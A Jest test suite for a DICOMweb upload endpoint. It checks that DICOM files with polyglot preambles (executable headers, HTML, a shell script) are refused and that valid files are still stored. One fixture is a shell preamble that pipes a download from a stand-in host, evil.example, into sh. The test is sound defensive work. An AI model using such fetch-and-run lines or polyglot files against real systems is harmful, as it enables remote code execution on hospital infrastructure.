import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { dicomFixture } from '../../fixtures/dicom-fixtures.js';
import { minimalDataset, writePart10 } from '../../fixtures/dicom-writer.js';
import { multipartRelated, storedCounts, stowContentType } from '../../support/dicomweb.js';
import { createTenant, type Tenant } from '../../support/tenant.js';
import { startTestApp, type TestApp } from '../../support/test-app.js';
import { collectBytes } from '../../support/http.js';

type Item = Record<string, { Value: unknown[] }>;
const BOUNDARY = 'polyglot-boundary';

/** A real CT file whose 128-byte preamble is replaced: what a polyglot (CVE-2019-11687) looks like. */
const withPreamble = (file: Buffer, head: Buffer): Buffer => {
  const out = Buffer.from(file);
  out.fill(0, 0, 128);
  head.copy(out, 0, 0, Math.min(head.length, 128));
  return out;
};

const POLYGLOTS: [string, Buffer, RegExp][] = [
  ['a PE executable (MZ)', Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), /Windows/],
  ['an ELF executable', Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), /ELF/],
  ['a shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\nexit 0\n'), /script/],
  ['a ZIP archive', Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), /ZIP/],
  ['an HTML page', Buffer.from('<html><script>alert(1)</script>'), /neither zeros nor a TIFF header/],
];

describe('polyglot files: a DICOM preamble that is also another kind of file is refused', () => {
  let t: TestApp;
  let a: Tenant;
  let ct: Buffer;

  const stow = (parts: Buffer[]) =>
    request(t.http)
      .post('/dicomweb/studies')
      .set('Content-Type', stowContentType(BOUNDARY))
      .auth(a.tokens.clinic_technician, { type: 'bearer' })
      .send(
        multipartRelated(
          parts.map((body) => ({ body })),
          BOUNDARY,
        ),
      );
  const failures = (body: Record<string, { Value?: Item[] }>) =>
    (body['00081198']?.Value ?? []).map((f) => ({
      reason: f['00081197']!.Value[0],
      comment: String(f['00000902']?.Value[0]),
    }));

  beforeAll(async () => {
    t = await startTestApp();
    a = await createTenant(t);
    ct = await readFile(dicomFixture('ct-small.dcm').path);
  });
  afterAll(async () => {
    await t?.close();
  });

  it.each(POLYGLOTS)('refuses %s in the preamble (0xC000, a clear reason), storing nothing', async (_n, head, what) => {
    const before = await storedCounts(t);
    const res = await stow([withPreamble(ct, head)]).expect(409);
    expect(failures(res.body)).toEqual([
      { reason: 0xc000, comment: expect.stringMatching(/128-byte preamble/) as unknown },
    ]);
    expect(failures(res.body)[0]!.comment).toMatch(what);
    expect(await storedCounts(t)).toEqual(before); // no row, no object, no temporary file
  });

  it('stores a file with a zero preamble (and one with a TIFF header) beside a refused polyglot, byte for byte', async () => {
    const zero = writePart10(
      minimalDataset({
        extra: [{ tag: 0x00100020, vr: 'LO', value: 'ZERO-PREAMBLE' }],
        override: { 0x00080018: '1.2.826.0.1.3680043.2.1125.77.1', 0x0020000d: '1.2.826.0.1.3680043.2.1125.77.2' },
      }),
    );
    expect(zero.subarray(0, 128).every((b) => b === 0)).toBe(true);
    const before = await storedCounts(t);
    const res = await stow([zero, withPreamble(ct, Buffer.from('MZ')), ct]).expect(202);
    expect(res.body['00081199'].Value).toHaveLength(2);
    expect(failures(res.body)).toHaveLength(1);
    const after = await storedCounts(t);
    expect(after.instances).toBe(before.instances + 2);
    expect(after.objects).toBe(before.objects + 2);
    expect(after.tempFiles).toBe(0);

    const wado = await request(t.http)
      .get(
        '/dicomweb/studies/1.2.826.0.1.3680043.2.1125.77.2/series/1.2.826.0.1.3680043.2.1125.1.3/instances/1.2.826.0.1.3680043.2.1125.77.1',
      )
      .set('Accept', 'multipart/related; type="application/dicom"')
      .auth(a.tokens.clinic_technician, { type: 'bearer' })
      .buffer(true)
      .parse(collectBytes)
      .expect(200);
    expect((wado.body as Buffer).includes(zero)).toBe(true);
  });
});
